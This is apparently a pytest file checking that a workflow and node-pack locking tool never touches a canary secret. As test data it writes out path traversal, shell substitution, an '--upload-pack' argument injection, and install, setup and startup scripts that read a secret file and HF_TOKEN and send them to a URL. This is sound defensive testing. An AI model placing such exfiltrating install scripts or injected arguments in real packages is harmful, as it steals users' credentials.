"""A canary in the user's home, in a variable and on a server: a workflow and a node pack from somebody else do not get
at it while they are inspected and locked."""

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.canaries import Canary, canary_in
from tests.support.cli_projects import CARD, Place
from tests.support.command_line import Outcome
from tests.support.repositories import commit


@pytest.fixture
def canary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Canary]:
    with canary_in(tmp_path, monkeypatch) as found:
        yield found


def everything(folder: Path) -> str:
    """The text of all files below a folder."""
    return "\n".join(
        file.read_bytes().decode("latin-1") for file in folder.rglob("*") if file.is_file() and not file.is_symlink()
    )


def printed(outcome: Outcome) -> str:
    return outcome.out + outcome.err


def test_a_workflow_gets_at_nothing(place: Place, canary: Canary) -> None:
    place.project()
    climbing = "../" * 20 + str(canary.file).lstrip("/")
    nodes = json.loads((place.work / "workflow.json").read_text())["nodes"]
    for number, (type_, values) in enumerate(
        [
            ("LoadImage", [str(canary.file), climbing, "$HF_TOKEN", f"file://{canary.file}"]),
            ("SaveImage", ["%env:HF_TOKEN%-${HF_TOKEN}-$(cat canary)", f"{canary.written}"]),
            ("CheckpointLoaderSimple", [climbing]),
        ],
        start=100,
    ):
        nodes.append({"id": number, "type": type_, "widgets_values": values, "inputs": [], "outputs": []})
        nodes[-1]["properties"] = {
            "cnr_id": "comfy-core",
            "aux_id": f"--upload-pack=touch {canary.written}",
            "models": [{"name": climbing, "url": f"file://{canary.file}", "directory": "../../.."}],
        }
    text = json.dumps({"version": 0.4, "nodes": nodes, "links": [], "extra": {"HF_TOKEN": "$HF_TOKEN"}})
    place.write("workflow.json", text)
    token = {"HF_TOKEN": canary.secret}
    commands = (("inspect", "."), ("lock", "."), ("lock", ".", "--json"), ("models", "pull", "."))
    told = [printed(place.run(*words, env=token)) for words in commands]
    assert "Traceback" not in "".join(told)
    assert str(canary.file) in told[0], "what it names is shown"
    canary.assert_untouched(*told, everything(place.root))


def test_a_node_pack_gets_at_nothing_while_it_is_locked(place: Place, canary: Canary) -> None:
    place.project()
    tries = f"import os, urllib.request as u\nx = open({str(canary.file)!r}).read() + os.environ['HF_TOKEN']\n"
    tries += f"open({str(canary.written)!r}, 'w').write(x)\nu.urlopen('{canary.url}/' + x)\n"
    pack = {"__init__.py": tries + CARD, "install.py": tries, "setup.py": tries, "prestartup_script.py": tries}
    commit(place.work / "card", pack)
    token = {"HF_TOKEN": canary.secret}
    outcome = place.run("lock", ".", env=token)
    assert outcome.status == 0, outcome.err
    canary.assert_untouched(printed(outcome), everything(place.root))
    # Each of these would get at it, and is told.
    for requirement in (f"-r {canary.file}", f"x @ file://{canary.file}", f"--index-url {canary.url}/${{HF_TOKEN}}"):
        commit(place.work / "card", {"requirements.txt": requirement + "\n"})
        refused = place.run("lock", ".", "--update", "card", env=token)
        assert refused.status == 1 and "requirements.txt" in printed(refused), printed(refused)
        canary.assert_untouched(printed(refused), everything(place.root))
    (place.work / "card" / "link.py").symlink_to(canary.file)
    commit(place.work / "card", {"requirements.txt": ""})
    refused = place.run("lock", ".", "--update", "card", env=token)
    assert refused.status == 1 and "link.py" in printed(refused), printed(refused)
    canary.assert_untouched(printed(refused), everything(place.root))
